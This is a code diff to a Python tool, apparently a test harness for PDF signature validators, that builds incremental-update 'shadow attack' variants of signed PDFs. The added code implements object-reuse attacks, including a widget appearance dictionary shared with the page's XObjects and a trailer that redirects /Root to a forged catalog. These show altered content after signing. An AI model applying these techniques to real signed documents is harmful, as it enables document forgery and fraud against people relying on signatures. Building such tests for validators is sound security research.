@@ -150,8 +150,8 @@ class Pdf:
         return node
 
 
-def update(pdf, objects):
-    """`pdf`'s bytes plus an incremental update writing `objects` {number: text}."""
+def update(pdf, objects, root=None):
+    """`pdf`'s bytes plus an incremental update writing `objects` {number: text}; `root`: another /Root."""
     out = bytearray(pdf.data)
     if not out.endswith(b"\n"):
         out += b"\n"
@@ -163,8 +163,8 @@ def update(pdf, objects):
     out += b"xref\n"
     for n in sorted(where):
         out += b"%d 1\n%010d 00000 n \n" % (n, where[n])
-    trailer = b"<</Size %d/Root %s/Prev %d" % (max([pdf.size] + [n + 1 for n in where]), get(pdf.trailer, b"Root"),
-                                                pdf.startxref)
+    trailer = b"<</Size %d/Root %s/Prev %d" % (max([pdf.size] + [n + 1 for n in where]),
+                                                root or get(pdf.trailer, b"Root"), pdf.startxref)
     for key in (b"Info", b"ID"):
         if get(pdf.trailer, key):
             trailer += b"/" + key + b" " + get(pdf.trailer, key)
@@ -238,6 +238,9 @@ def shadow_base(data):
     page = pdf.first_page()
     n = pdf.size
     x1, x2, ocg, extra, annot, annot_ap, field, field_ap = range(n, n + 8)
+    # Object reuse: kyso's number field (fillable after signing) whose /AP dictionary is the
+    # page's own XObject dictionary; a catalog with a forged page tree that nothing uses yet.
+    number_field, alt_catalog, alt_pages, alt_page, alt_content = range(n + 8, n + 13)
     objects = {
         x1: stream(b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]", b""),
         x2: stream(b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</Font<</KF " + FONT + b">>>>", FORGED),
@@ -254,6 +257,12 @@ def shadow_base(data):
     objects[page] = put(page_text, b"Contents", b"[" + items + b" %d 0 R]" % extra)
     resources_with(pdf, objects, page, b"XObject", b"KysoX1", b"%d 0 R" % x1)
     resources_with(pdf, objects, page, b"Properties", b"KysoOC", b"%d 0 R" % ocg)
+    shared_ap = share_xobjects(pdf, objects, page, b"/N %d 0 R" % x1)
+    page_text = objects.get(page, pdf.obj(page))
+    objects[alt_content] = stream(b"", FORGED)
+    objects[alt_page] = put(put(put(page_text, b"Parent", b"%d 0 R" % alt_pages), b"Contents", b"%d 0 R" % alt_content),
+                            b"Resources", b"<</Font<</KF " + FONT + b">>>>")
+    objects[alt_pages] = b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % alt_page
     # Hidden (/F 2) until an update clears the flag: "hide" by revealing an overlay.
     page_annot = (b"<</Type/Annot/Subtype/Square/F 2/Rect[60 620 480 710]/C[1 1 1]/P %d 0 R"
                   b"/AP<</N %d 0 R>>>>" % (page, annot_ap))
@@ -263,10 +272,34 @@ def shadow_base(data):
     widget = (b"<</Type/Annot/Subtype/Widget/FT/Tx/T(ghi_chu_noi_bo)/V(Ban goc)/F 4/Rect[60 40 260 60]"
               b"/P %d 0 R/AP<</N %d 0 R>>>>" % (page, field_ap))
     add_field(pdf, objects, field, widget, page)
+    add_field(pdf, objects, number_field, b"<</Type/Annot/Subtype/Widget/FT/Tx/T(kyso_so)/F 4/Rect[300 40 360 60]"
+                                          b"/P %d 0 R/AP %d 0 R>>" % (page, shared_ap), page)
     root = pdf.root()
     catalog = objects.get(root, pdf.obj(root))
     objects[root] = put(catalog, b"OCProperties", b"<</OCGs[%d 0 R]/D<</OFF[%d 0 R]>>>>" % (ocg, ocg))
+    form = get(objects[root], b"AcroForm")
+    if ref_number(form) is None:  # shared by both catalogs, so the signature shows in either
+        objects[alt_content + 1] = form
+        objects[root] = put(objects[root], b"AcroForm", b"%d 0 R" % (alt_content + 1))
+    objects[alt_catalog] = put(objects[root], b"Pages", b"%d 0 R" % alt_pages)
     return update(pdf, objects)
+
+
+def share_xobjects(pdf, objects, page, extra):
+    """Makes the page's /Resources /XObject an indirect dictionary holding `extra` too; its number."""
+    page_text = objects.get(page, pdf.obj(page))
+    res = get(page_text, b"Resources")
+    n = ref_number(res)
+    res_text = objects.get(n, pdf.obj(n)) if n is not None else res
+    xobjects = pdf.resolve(get(res_text, b"XObject")).strip()
+    shared = max([pdf.size] + list(objects)) + 20
+    objects[shared] = xobjects[:-2] + extra + b">>"
+    res_text = put(res_text, b"XObject", b"%d 0 R" % shared)
+    if n is not None:
+        objects[n] = res_text
+    else:
+        objects[page] = put(page_text, b"Resources", res_text)
+    return shared
 
 
 def sig_dict_span(data):
@@ -385,6 +418,10 @@ def attacks(signed, shadow):
             numbers["field"] = number
         elif b"DA BI SUA SAU KHI KY" in text:
             numbers["x2"] = number
+        elif b"(kyso_so)" in text:
+            numbers["number_field"] = number
+        elif b"/OCProperties" in text and number != pdf.root():
+            numbers["alt_catalog"] = number
     res = get(page_text, b"Resources")
     res_text = pdf.resolve(res)
     x1 = ref_number(get(pdf.resolve(get(res_text, b"XObject")), b"KysoX1"))
@@ -400,6 +437,14 @@ def attacks(signed, shadow):
                                                                       b"<</OFF[]>>"))})
     n = pdf.size
     field = numbers["field"]
+    # Object reuse: a fill that is allowed for the field's /AP but also changes what the page draws.
+    number_field = pdf.obj(numbers["number_field"])
+    shared_ap = ref_number(get(number_field, b"AP"))
+    out["reuse_widget_ap_is_page_xobject"] = update(pdf, {x1: pdf.obj(numbers["x2"])})
+    out["reuse_ap_dictionary_shared_with_page"] = update(pdf, {
+        shared_ap: put(pdf.obj(shared_ap), b"KysoX1", b"%d 0 R" % numbers["x2"]),
+        numbers["number_field"]: put(number_field, b"V", b"(7)")})
+    out["reuse_trailer_redirects_root"] = update(pdf, {}, root=b"%d 0 R" % numbers["alt_catalog"])
     out["shadow_replace_form_value"] = update(pdf, {
         field: put(put(pdf.obj(field), b"V", b"(Da sua)"), b"AP", b"<</N %d 0 R>>" % n),
         n: stream(b"/Type/XObject/Subtype/Form/BBox[0 0 200 20]/Resources<</Font<</KF " + FONT + b">>>>",
